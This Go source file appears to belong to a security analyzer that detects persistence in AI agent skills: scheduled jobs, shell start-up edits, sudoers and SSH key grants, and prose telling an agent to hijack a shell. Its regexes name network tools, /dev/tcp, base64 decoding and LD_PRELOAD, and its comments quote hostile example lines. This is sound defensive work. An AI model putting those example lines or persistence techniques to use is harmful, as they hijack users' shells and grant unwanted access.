		if !shSettingLineRx.MatchString(l) || strings.HasPrefix(k, "Exec") || shellfacts.CodeLoadingLineRx.MatchString(l) || strings.Contains(k, "$(") || strings.Contains(k, "`") {
			return false
		}
		for _, u := range intel.URLRx.FindAllString(l, -1) {
			if host, class := intel.URLClass(u); !intel.DocExampleDomain(host) && class != intel.HostLoopback {
				return false
			}
		}
	}
	return true
}

// shLastWrite returns the last command before c in s that writes file,
// and that write; nil when none does.
func shLastWrite(s *shell.Script, c *shell.Command, file string) (*shell.Command, shellfacts.Write) {
	var last *shell.Command
	var w shellfacts.Write
	for _, d := range s.Commands {
		if d == c {
			break
		}
		for _, t := range shellfacts.WriteTargets(s, d) {
			if t.Path == file {
				last, w = d, t
			}
		}
	}
	return last, w
}

// shCronSchedule writes a cron line whose schedule is held in variables
// or computed ("$CRON_EXPR cmd", "${SCHEDULE:-0 3 * * *} cmd",
// "$(echo "$t" | cut -d: -f2) $(echo "$t" | cut -d: -f1) * * * cmd") with
// a literal schedule, so that what the line runs is read like any other;
// a substitution in the schedule ran when the script wrote the line.
func shCronSchedule(l string) string {
	if shJobTextRx.MatchString(l) {
		return l
	}
	toks, rest := shCronTokens(l, 5)
	if len(toks) == 5 && strings.TrimSpace(rest) != "" {
		all := true
		for _, t := range toks {
			all = all && shCronFieldRx.MatchString(t)
		}
		if all {
			return "* * * * * " + strings.TrimSpace(rest)
		}
	}
	if toks, rest := shCronTokens(l, 1); len(toks) == 1 && strings.HasPrefix(toks[0], "$") && strings.TrimSpace(rest) != "" {
		return "* * * * * " + strings.TrimSpace(rest)
	}
	return l
}

// shCronFieldRx matches one field of a cron schedule, literal or held in
// an expansion.
var shCronFieldRx = match.MustRx(`^(?:[\d*/,-]|\$\{[^}]*\}|\$\w+|\$\(.*\))+$`)

// shCronTokens returns the first n space-separated tokens of l, a
// $(…) or ${…} with its spaces counting as one, and the text after them.
func shCronTokens(l string, n int) ([]string, string) {
	var toks []string
	i := 0
	for len(toks) < n {
		for i < len(l) && (l[i] == ' ' || l[i] == '\t') {
			i++
		}
		if i >= len(l) {
			break
		}
		start, depth := i, 0
		for i < len(l) && (depth > 0 || l[i] != ' ' && l[i] != '\t') {
			switch {
			case l[i] == '(' || l[i] == '{':
				depth++
			case (l[i] == ')' || l[i] == '}') && depth > 0:
				depth--
			}
			i++
		}
		toks = append(toks, l[start:i])
	}
	return toks, l[i:]
}

// shJobArgvs returns the command lines of the job c installs (its Exec
// lines, cron lines and plist programs, from shJobTexts), and whether
// some text holds none. ok is false when there is no text or one touches
// shJobLocalBad.
func shJobArgvs(p *analyzer.Pass, s *shell.Script, c *shell.Command) (argvs [][]string, someEmpty, ok bool) {
	texts := shJobTexts(p, s, c)
	if len(texts) == 0 {
		return nil, false, false
	}
	for _, text := range texts {
		// a unit's Description= and Documentation= are metadata: a
		// project URL there is not something the job fetches
		// so are where its output goes (>> /tmp/backup.log 2>&1); a
		// redirection to a socket (/dev/tcp) stays
		text = shRedirRx.ReplaceAllStringFunc(shUnitMetaRx.ReplaceAllString(text, ""), func(r string) string {
			if strings.Contains(r, "/dev/tcp") || strings.Contains(r, "/dev/udp") {
				return r
			}
			return " "
		})
		if shellfacts.CodeLoadingLineRx.MatchString(text) {
			return nil, false, false // Environment="LD_PRELOAD=…": every process of the job loads code
		}
		// a unit's other settings (User=$(whoami), WorkingDirectory=,
		// Environment=) are not what it runs; a substitution there ran
		// when the script wrote the file, where it is analysed
		low := strings.ToLower(shUnitSettingRx.ReplaceAllString(text, ""))
		for _, bad := range shJobLocalBad {
			if strings.Contains(low, bad) {
				return nil, false, false
			}
		}
		ms := shJobTextRx.FindAllStringSubmatch(text, 16)
		someEmpty = someEmpty || len(ms) == 0
		for _, m := range ms {
			argv := strings.Fields(m[1] + m[2]) // one alternative matched
			for _, sm := range shPlistStringRx.FindAllStringSubmatch(m[3], 8) {
				argv = append(argv, strings.TrimSpace(sm[1]))
			}
			argvs = append(argvs, argv)
		}
	}
	return argvs, someEmpty, true
}

// shVisibleJob reports a job whose whole text is in the skill and holds
// nothing that fetches, decodes, hides or runs from a temporary
// directory, though it runs a program the skill does not ship (node
// /opt/app/server.js): what it runs can be read, and the program is
// judged where it is installed. It returns the first program.
func shVisibleJob(p *analyzer.Pass, s *shell.Script, c *shell.Command) (string, bool) {
	argvs, _, ok := shJobArgvs(p, s, c)
	if !ok || len(argvs) == 0 {
		return "", false // no line of the text reads as what the job runs
	}
	prog := ""
	for _, argv := range argvs {
		for _, jc := range shJobCommands(argv) {
			seg := jc.argv
			if p := strings.Trim(seg[0], `"'`); jc.cwd != "" && !strings.HasPrefix(p, "/") && strings.Contains(p, "/") {
				seg = append([]string{path.Join(jc.cwd, p)}, seg[1:]...) // cd /tmp && ./run is /tmp/run
			}
			if !shPlainProgram(seg) {
				return "", false
			}
			if prog == "" {
				prog = seg[0]
			}
		}
	}
	return prog, true
}

// shPlainProgram reports a job command line that runs a program file
// directly: not a shell, an interpreter given inline code (-c, -e) or a
// runner of other commands (env, sudo, nohup), and not from a hidden or
// temporary directory (~/.cache/x/run), where droppers put what they
// start at boot.
func shPlainProgram(argv []string) bool {
	if len(argv) == 0 {
		return false
	}
	prog := strings.Trim(argv[0], `"'`)
	base := path.Base(prog)
	if shell.IsShell(base) || shRunsAnother[base] || strings.Contains(strings.TrimPrefix(prog, "$HOME/"), "$") {
		return false
	}
	if strings.HasPrefix(base, ".") && base != "." && base != ".." {
		return false // a hidden program file
	}
	for _, seg := range strings.Split(path.Dir(prog), "/") {
		if strings.HasPrefix(seg, ".") && seg != "." && seg != ".." || seg == "tmp" || seg == "shm" {
			return false
		}
	}
	for _, a := range argv[1:] {
		switch strings.Trim(a, `"'`) {
		case "-c", "-e", "--eval", "-exec":
			return false
		}
	}
	return true
}

// shLocalJob reports what a scheduled or start-up job that c installs
// runs, when every program in it is an installed program (on PATH or in a
// system directory) or the skill's own script run by an interpreter, and
// nothing in it fetches, decodes or hides: a reminder, the skill's
// monitor. The job's text comes from the command (a here-document, echo
// into crontab) or from the skill's file it copies into place.
func shLocalJob(p *analyzer.Pass, s *shell.Script, c *shell.Command) (string, bool) {
	argvs, someEmpty, ok := shJobArgvs(p, s, c)
	if !ok || someEmpty {
		return "", false
	}
	prog := ""
	for _, argv := range argvs {
		for _, jc := range shJobCommands(argv) {
			what, ok := shLocalProgram(p.Skill, jc.argv, jc.cwd) // cd ./scripts && bash cleanup.sh runs ./scripts/cleanup.sh
			if !ok {
				return "", false
			}
			prog = what
		}
	}
	return prog, prog != ""
}

// shJobCmd is one command of a job line and the directory it runs in, as
// the cd before it on the line left it ("" when none did).
type shJobCmd struct {
	argv []string
	cwd  string
}

// shJobCommands splits a job's command line into the commands it runs:
// at && || ; and |, without the variable assignments before each
// (MC_DIR=/srv/mc bash backup.sh) and the wrappers that run it (env,
// sudo, nice, nohup, timeout), as systemd and cron would run them. A cd
// is not returned; it sets the directory of the commands after it.
func shJobCommands(argv []string) []shJobCmd {
	var out []shJobCmd
	var cur []string
	cwd := ""
	flush := func() {
		for len(cur) > 0 && shellfacts.AssignRx.MatchString(cur[0]) {
			cur = cur[1:]
		}
		switch {
		case len(cur) > 0 && cur[0] == "cd":
			cwd = ""
			if len(cur) > 1 {
				cwd = strings.Trim(cur[1], `"'`)
			}
		case len(cur) > 0:
			argv := shell.Unwrap(cur)
			if len(argv) > 0 {
				// /home/$USER/.local/bin/x: the home directory of the
				// account the job runs as, like %h or $HOME
				argv = append([]string{shUserHomeRx.ReplaceAllString(argv[0], "$$HOME/")}, argv[1:]...)
			}
			out = append(out, shJobCmd{argv, cwd})
		}
		cur = nil
	}
	for _, a := range argv {
		switch {
		case a == "&&" || a == "||" || a == ";" || a == "|":
			flush()
		case len(a) > 1 && strings.HasSuffix(a, ";"):
			cur = append(cur, strings.TrimSuffix(a, ";"))
			flush()
		default:
			cur = append(cur, a)
		}
	}
	flush()
	return out
}

// shLocalProgram judges one job command line: an installed program, or an
// interpreter running the skill's own script.
func shLocalProgram(sk *skill.Skill, argv []string, cwd string) (string, bool) {
	if len(argv) == 0 {
		return "", false
	}
	own := func(a string) bool {
		switch {
		case strings.HasPrefix(a, "/") || cwd == "":
			return shOwnScript(sk, a)
		case strings.HasPrefix(cwd, "."):
			return shOwnScript(sk, path.Join(cwd, a)) // cd ./scripts && bash x.sh
		case shDocPathRx.MatchString(cwd) || sk != nil && (path.Base(cwd) == sk.DirName || path.Base(cwd) == sk.Name):
			return shOwnScript(sk, a) // cd /path/to/<skill> && bash scripts/x.sh: the skill's folder, wherever it is
		}
		return false // relative to a directory outside the skill (cd /opt/app && ./run.sh)
	}
	prog := strings.Trim(argv[0], `"'`)
	base := path.Base(prog)
	if shRunsAnother[base] || strings.Contains(strings.TrimPrefix(prog, "$HOME/"), "$") {
		return "", false
	}
	interp := base == "python" || base == "python3" || base == "node" || base == "bun" || base == "deno" || base == "ruby" || base == "perl" || base == "uv" || base == "npx"
	if shell.IsShell(base) {
		// bash ./scripts/backup.sh: the skill's own script, run by a
		// shell; bash -c '…' and a shell reading stdin are not
		for _, a := range argv[1:] {
			if a = strings.Trim(a, `"'`); strings.HasPrefix(a, "-") {
				if a == "-c" || a == "-s" {
					return "", false
				}
				continue
			}
			if own(a) || shDocPathRx.MatchString(a) {
				return base + " " + a, true
			}
			return "", false
		}
		return "", false
	}
	if interp {
		for i, a := range argv[1:] {
			a = strings.Trim(a, `"'`)
			if a == "-m" && (base == "python" || base == "python3") && i+2 < len(argv) {
				// python3 -m inbox_watcher: a module the skill ships
				if mod := strings.Trim(argv[i+2], `"'`); shOwnModule(sk, mod) {
					return base + " -m " + mod, true
				}
				return "", false
			}
			if strings.HasPrefix(a, "-") {
				if a == "-c" || a == "-e" || a == "--eval" {
					return "", false // inline code
				}
				continue
			}
			if own(a) || shDocPathRx.MatchString(a) {
				return base + " " + a, true
			}
			return "", false
		}
		return "", false
	}
	if own(prog) {
		return prog, true
	}
	if shDocPathRx.MatchString(prog) {
		return prog, true // /path/to/backup.sh: the user's own script, named in a template
	}
	if shUserBinRx.MatchString(prog) {
		return prog, true // %h/.local/bin/pueued: what pipx, cargo or an installer put in the user's bin directory
	}
	if strings.HasPrefix(prog, "/") {
		if shSystemDirRx.MatchString(prog) || strings.HasPrefix(prog, "/usr/local/bin/") || strings.HasPrefix(prog, "/opt/homebrew/bin/") {
			return prog, true
		}
		return "", false
	}
	if !strings.Contains(prog, "/") && prog != "" {
		return prog, true // a program on PATH
	}
	return "", false
}

// shUserHomeRx matches a home directory spelled with the user's name in a
// variable (/home/$USER/, /Users/${USER}/, /home/$LOGNAME/).
var shUserHomeRx = match.MustRx(`^["']?/(?:home|Users)/\$(?:USER|LOGNAME|\{USER\}|\{LOGNAME\})/`)

// shUserBinRx matches a program in the user's bin directory (systemd's
// %h is the home directory): where package managers install commands.
var shUserBinRx = match.MustRx(`^(?:%h|~|\$HOME|\$\{HOME\}|/home/[^/]+|/Users/[^/]+|/root)/(?:\.local/bin|\.cargo/bin|\.bun/bin|\.deno/bin|go/bin|\.nix-profile/bin)/[\w.+-]+$`)

// shOwnModule reports a Python module the skill ships (mod.py, or a
// package mod/ with __main__.py), in any of its directories.
func shOwnModule(sk *skill.Skill, mod string) bool {
	if sk == nil || mod == "" || strings.ContainsAny(mod, "/$ ") {
		return false
	}
	rel := strings.ReplaceAll(mod, ".", "/")
	for _, f := range sk.Files {
		if f.Path == rel+".py" || strings.HasSuffix(f.Path, "/"+rel+".py") ||
			f.Path == rel+"/__main__.py" || strings.HasSuffix(f.Path, "/"+rel+"/__main__.py") {
			return true
		}
	}
	return false
}

// shOwnScript reports a path to one of the skill's own files: under a
// skills directory in the skill's name, or a relative path the skill holds.
func shOwnScript(sk *skill.Skill, a string) bool {
	if sk == nil {
		return false
	}
	for _, n := range []string{sk.DirName, sk.Name} {
		if n != "" && (strings.Contains(a, "/skills/"+n+"/") || strings.Contains(a, "/"+n+"/scripts/")) {
			return true
		}
	}
	return sk.File(strings.TrimPrefix(a, "./")) != nil
}

// shDotRepoRx matches the name of a dotfiles repository's directory:
// .dotfiles, dotfiles, dotfiles-private, dots.
var shDotRepoRx = match.MustRx(`(?i)^\.?(?:dot-?files?|dots)(?:[-_.][\w.-]+)?$`)

// shCodeDirs are the home directories users keep repositories in
// (~/src/dotfiles, ~/code/dotfiles).
var shCodeDirs = map[string]bool{"src": true, "code": true, "projects": true, "git": true, "repos": true,
	"dev": true, "workspace": true, "Developer": true, "github": true, "Projects": true, "Code": true}

// shDotfilesVarRx matches a variable naming the dotfiles directory
// ($DOTFILES, ${DOTFILES_DIR}).
var shDotfilesVarRx = match.MustRx(`(?i)^\$\{?dot_?files\w*\}?(?:/|$)`)

// shDotfilesRoot returns the dotfiles repository a path lies in, as
// written: ~/.dotfiles for ~/.dotfiles/bash/.bashrc, ~/src/dotfiles,
// $DOTFILES, or the relative .dotfiles. "" when the path is elsewhere.
func shDotfilesRoot(p string) string {
	p = strings.TrimPrefix(shellfacts.NormPath(strings.Trim(p, `"'`)), "./")
	if m := shDotfilesVarRx.FindString(p); m != "" {
		return strings.TrimSuffix(m, "/")
	}
	parts := strings.Split(p, "/")
	i := 0
	if parts[0] == "~" {
		i = 1
	} else if strings.HasPrefix(p, "/") || strings.HasPrefix(p, "$") {
		return ""
	}
	if i < len(parts)-1 && shDotRepoRx.MatchString(parts[i]) {
		return strings.Join(parts[:i+1], "/")
	}
	if i == 1 && i+1 < len(parts)-1 && shCodeDirs[parts[i]] && shDotRepoRx.MatchString(parts[i+1]) {
		return strings.Join(parts[:i+2], "/")
	}
	return ""
}

// shStartupFile reports whether a path whose name is a start-up file's
// is one a shell reads: in a home directory (~/.bashrc, /home/u/.zshrc,
// /root/.profile), in a directory a variable holds ($ZDOTDIR/.zshrc,
// "$h/.bashrc"), under /etc, or nested where a shell looks
// (~/.config/fish/config.fish, ~/.config/zsh/.zshrc as ZDOTDIR). A file
// of that name in a dotfiles repository (~/.dotfiles/bash/.bashrc,
// $DOTFILES/zsh/.zshrc) or a relative plain directory (bash/.bashrc,
// .dotfiles/zsh/.zshrc) is the user's copy, not where a shell reads it.
func shStartupFile(p string) bool {
	p = strings.TrimPrefix(shellfacts.NormPath(strings.Trim(p, `"'`)), "./")
	if shDotfilesRoot(p) != "" {
		return false
	}
	if strings.HasPrefix(p, "/") || strings.HasPrefix(p, "~") || strings.HasPrefix(p, "$") || !strings.Contains(p, "/") {
		return true
	}
	first, _, _ := strings.Cut(p, "/")
	return strings.HasPrefix(first, ".") // .config/fish/config.fish read from the home directory
}

// shGitPlaceholderRx matches a repository URL whose owner the reader
// fills in (github.com/username/dotfiles, <you>, YOUR_USER, $USER).
var shGitPlaceholderRx = match.MustRx(`(?i)[/:](?:user(?:name)?|you|your[-_]?\w*|me|<[^<>]+>|_[^_/]+_|\$\{?\w+\}?)/`)

// shOwnDotfiles reports a link or copy into a start-up file whose every
// source is in the user's dotfiles repository (ln -s ~/.dotfiles/bash/.bashrc
// ~/.bashrc): the content is the user's own, put in place. It is the
// skill's content, not the user's, when the file's scripts fill that
// directory: a copy, download, archive or heredoc written there, or a
// clone of a repository the skill names (git clone of a URL with a
// placeholder owner, github.com/username/dotfiles, is the user's own).
func shOwnDotfiles(c *shell.Command, sites []analyzer.ShellSite) (string, bool) {
	if c.Name != "ln" && c.Name != "cp" {
		return "", false
	}
	srcs := shellfacts.CopySources(c)
	if len(srcs) == 0 {
		return "", false
	}
	for _, src := range srcs {
		root := shDotfilesRoot(src)
		if root == "" || shDotfilesFilled(sites, c, root) {
			return "", false
		}
	}
	return srcs[0], true
}

// shDotfilesFilled reports a command of the file's scripts, other than
// c, that writes into the dotfiles directory root: a copy, move,
// download or redirection there (moving the user's own start-up files in
// excepted), an archive unpacked or a repository cloned into it.
func shDotfilesFilled(sites []analyzer.ShellSite, c *shell.Command, root string) bool {
	base := path.Base(root)
	under := func(w string) bool {
		w = strings.TrimSuffix(strings.TrimPrefix(shellfacts.NormPath(strings.Trim(w, `"'`)), "./"), "/")
		return w == root || strings.HasPrefix(w, root+"/") || w == "~" || strings.HasPrefix(root, w+"/") && w != "."
	}
	for i := range sites {
		s := sites[i].Script
		for _, d := range s.Commands {
			if d == c {
				continue
			}
			switch d.Name {
			case "git":
				if d.Arg(1) == "clone" {
					ps := d.Params()
					for i, w := range ps {
						if strings.Contains(w.Value, "://") || strings.Contains(w.Value, "@") {
							if shGitPlaceholderRx.MatchString(w.Value) {
								continue
							}
							// a clone into a directory it names lands there
							// (git clone URL ~/.tmux/plugins/tpm is not the
							// dotfiles); without one, where it lands is taken
							// to be the dotfiles
							if i+1 < len(ps) && !strings.HasPrefix(ps[i+1].Value, "-") && !under(ps[i+1].Value) {
								continue
							}
							return true // the skill's repository
						}
					}
				}
				continue
			case "tar", "bsdtar", "unzip", "7z":
				for _, w := range d.Params() {
					if strings.Contains(w.Value, base) {
						return true
					}
				}
				continue
			case "mv", "cp":
				own := true
				for _, src := range shellfacts.CopySources(d) {
					if !intel.StartupFile(src) || !shStartupFile(src) {
						own = false
					}
				}
				if own {
					continue // mv ~/.bashrc ~/.dotfiles/bash/: the user's own file moved in
				}
			}
			for _, w := range shellfacts.WriteTargets(s, d) {
				if under(w.Path) {
					return true
				}
			}
		}
	}
	return false
}

func shRunPersistence(p *analyzer.Pass) error {
	sites, err := p.ShellSites()
	if err != nil {
		return err
	}
	if err := shProseRcEdits(p); err != nil {
		return err
	}
	return shellfacts.ForEachSite(p, func(site *analyzer.ShellSite) {
		s := site.Script
		for _, c := range s.Commands {
			sev, what := shPersistence(s, c, sites)
			if sev == analyzer.SevNone {
				continue
			}
			if sev == Critical {
				if why := shCallerGrant(p, s, c); why != "" {
					sev, what = Medium, what+" ("+why+")"
				}
			}
			if sev == High {
				if prog, ok := shLocalJob(p, s, c); ok {
					sev, what = Medium, what+" that runs "+prog+" (the skill's own script or an installed program; nothing fetched, decoded or hidden)"
				} else if prog, ok := shVisibleJob(p, s, c); ok {
					if prog != "" {
						prog = ", runs " + prog
					}
					sev, what = Medium, what+" (its whole text is in the skill"+prog+"; nothing fetched, decoded or hidden)"
				}
			}
			if site.Kind.Executes() && sev < High {
				sev = High
			}
			// RUN echo "umask 022" >> /home/app/.bashrc: the start-up of
			// an image being built, not of this machine. Access grants
			// (authorized_keys, sudoers) still ship in the image.
			if p.File.InImageBuild() && sev == High {
				sev, what = Medium, what+" (in an image being built, not on this machine)"
			}
			shellfacts.Report(p, site, analyzer.Diagnostic{Start: c.Start, End: shellfacts.CmdEnd(c), Severity: sev, Message: "persistence: " + what + shellfacts.Where(site)})
		}
	})
}

// shArgWordRx matches a word that is one of the script's arguments
// ($2, "${1}", ${1:?usage}).
var shArgWordRx = match.MustRx(`^["']?\$\{?[1-9](?:[:}][^}]*\})?["']?$`)

// shSSHKeyLiteralRx matches an SSH public key written out.
var shSSHKeyLiteralRx = match.MustRx(`(?:ssh-(?:rsa|ed25519|dss)|ecdsa-sha2-[\w-]+|sk-ssh-ed25519@openssh\.com)\s+AAAA[0-9A-Za-z+/]{40,}`)

// shCallerGrant says why an access grant c writes is the caller's own
// choice, as a user-management tool makes it: sudoers rights for the
// account named in the script's arguments (echo "$username ALL=(ALL) ALL"
// > /etc/sudoers.d/$username, username="$2"), or an authorized_keys line
// that is the key, or the key file, the arguments give. The grant goes to
// whoever the caller names; a fixed account ($(whoami), a literal name), a
// literal key or a downloaded one stays critical, and so does any grant in
// a skill that ships an SSH public key of its own (the key its
// instructions would pass).
func shCallerGrant(p *analyzer.Pass, s *shell.Script, c *shell.Command) string {
	for _, f := range p.Skill.Files {
		if f.Kind.IsText() && shSSHKeyLiteralRx.Match(f.Content) {
			return ""
		}
	}
	for _, t := range shellfacts.WriteTargets(s, c) {
		if !intel.AccessGrantPath(t.Path) {
			continue
		}
		switch {
		case strings.Contains(t.Path, "/etc/sudoers"):
			if f := strings.Fields(t.Text); len(f) > 1 && shArgWordRx.MatchString(f[0]) {
				return "rights for the account the script's arguments name"
			}
		case intel.AuthorizedKeysPath(t.Path):
			if shArgWordRx.MatchString(strings.TrimSpace(t.Text)) {
				return "the key the script's arguments give"
			}
			if c.Name == "cat" || c.Name == "cp" || c.Name == "install" {
				srcs := shellfacts.CopySources(c)
				if c.Name == "cat" {
					srcs = nil
					for _, w := range c.Params() {
						srcs = append(srcs, w.Value)
					}
				}
				if len(srcs) == 1 && shArgWordRx.MatchString(srcs[0]) {
					return "the key file the script's arguments name"
				}
			}
		}
	}
	return ""
}

// shRcMentionRx names a shell start-up file in prose: ~/.bashrc, the
// user's .zshrc, $HOME/.profile, config.fish.
var shRcMentionRx = match.MustRx(`(?i)(?:^|[\s("'\x60/])\.(?:bashrc|bash_profile|bash_login|zshrc|zprofile|zshenv|zlogin|profile|kshrc|cshrc|tcshrc)\b|\bconfig\.fish\b`)

// shRcEditVerbRx: a verb that puts something into a file.
var shRcEditVerbRx = match.MustRx(`(?i)\b(?:append|add|put|insert|write|place|prepend|drop|inject|plant)\b`)

// shRcHijackWordsRx: a line described in words that hijacks a command
// in every shell: an alias or wrapper of a command that handles passwords,
// keys or pushes ("an alias for sudo that first runs …"), or a PATH entry
// in a temporary directory ("put /tmp/.x at the front of PATH").
var shRcHijackWordsRx = match.MustRx(`(?i)\b(?:alias(?:es)?|wrappers?|functions?|shims?)\s+(?:(?:for|of|named|called|over|around|wrapping|that (?:wraps|replaces|shadows))\s+)?(?:the\s+)?[\x60"']?(?:sudo|su|doas|ssh|scp|passwd|gpg|git|op|aws|gh|kubectl)\b|\bPATH\b[^.;]{0,60}?(?:^|[\s=:"'\x60])(?:/tmp|/var/tmp|/dev/shm)/|(?:^|[\s"'\x60])(?:/tmp|/var/tmp|/dev/shm)/\S*\s+(?:to|into|onto|at the (?:front|start|beginning|head) of)\s+(?:the\s+|your\s+|their\s+|the user's\s+)?\$?PATH\b`)

// shCodeSpanRx finds the code spans of a sentence.
var shCodeSpanRx = match.MustRx("\x60([^\x60\n]+)\x60")

// shSentencesKeepingSpans splits src[start:end] into sentences at ".",
// "!", "?" or ";" before a blank or the end, never inside a code span
// (a span holds "|" and "." of its own).
func shSentencesKeepingSpans(src []byte, start, end int) [][2]int {
	var out [][2]int
	from, inSpan := start, false
	for i := start; i < end; i++ {
		switch c := src[i]; {
		case c == '\x60':
			inSpan = !inSpan
		case !inSpan && (c == '.' || c == '!' || c == '?' || c == ';' || c == '\n' && i+1 < end && src[i+1] == '\n'):
			if i+1 == end || src[i+1] == ' ' || src[i+1] == '\n' || src[i+1] == '\t' {
				out = append(out, [2]int{from, i + 1})
				from = i + 1
			}
		}
	}
	if from < end {
		out = append(out, [2]int{from, end})
	}
	return out
}

// shRcHijackLine reports a start-up line that no setup needs: one that
// loads code into every process or wraps a command that handles secrets
// (shellfacts.CodeLoadingLineRx), fetches or sends (curl, wget, nc, /dev/tcp), or
// puts a temporary directory on PATH.
func shRcHijackLine(l string) bool {
	return shellfacts.CodeLoadingLineRx.MatchString(l) || shRcFetchRx.MatchString(l) || shellfacts.TempPathRx.MatchString(l)
}

// shRcFetchRx: a program in a line that fetches, sends or decodes.
var shRcFetchRx = match.MustRx(`(?:^|[\s;&|(\x60$])(?:curl|wget|nc|ncat|netcat|socat)\s|/dev/tcp/|\bbase64\s+(?:-d|--decode)\b`)

// shProseRcEdits reports prose that tells the agent to put a line into a
// shell start-up file that hijacks the user's shell: "Append the line
// `export PATH=/tmp/.x:$PATH` to the user's ~/.bashrc", "add an alias for
// sudo to ~/.zshrc that …". The instruction in words is the command
// `echo LINE >> ~/.bashrc`; an ordinary setup line ("add `export
// PATH=$HOME/.cargo/bin:$PATH` to your ~/.bashrc") is not reported here.
func shProseRcEdits(p *analyzer.Pass) error {
	if p.File.Kind != skill.KindMarkdown {
		return nil
	}
	d, err := prose.Of(p)
	if err != nil {
		return nil // the shell sites report parse problems
	}
	for si := range d.Segments {
		seg := &d.Segments[si]
		if seg.Kind != markdown.Paragraph || seg.Start < 0 || seg.End > len(d.Src) || !shRcMentionRx.Match(d.Src[seg.Start:seg.End]) {
			continue
		}
		for _, sr := range shSentencesKeepingSpans(d.Src, seg.Start, seg.End) {
			orig := string(d.Src[sr[0]:sr[1]]) // with its code spans
			if !shRcMentionRx.MatchString(orig) {
				continue
			}
			words := shCodeSpanRx.ReplaceAllString(orig, " $1 ")
			vm := shRcEditVerbRx.FindStringIndex(orig)
			if vm == nil || prose.Negated(strings.ToLower(orig), vm[0]) || prose.SentenceNegationRx.MatchString(strings.ToLower(orig)) {
				continue
			}
			what := ""
			for _, m := range shCodeSpanRx.FindAllStringSubmatch(orig, -1) {
				if shRcHijackLine(m[1]) {
					what = "the line " + match.Clip(m[1], 60)
					break
				}
			}
			if what == "" {
				if m := shRcHijackWordsRx.FindString(words); m != "" {
					what = match.Clip(strings.TrimSpace(m), 60)
				}
			}
			if what == "" {
				continue
			}
			sev, ex := prose.ExampleSeverity(High, d.CtxAt(sr[0]), d.Teaching)
			p.Report(analyzer.Diagnostic{Start: sr[0], End: sr[1], Severity: sev,
				Message: "persistence: instruction to add " + what + " to a shell start-up file, which runs in every new shell" + ex})
		}
	}
	return nil
}
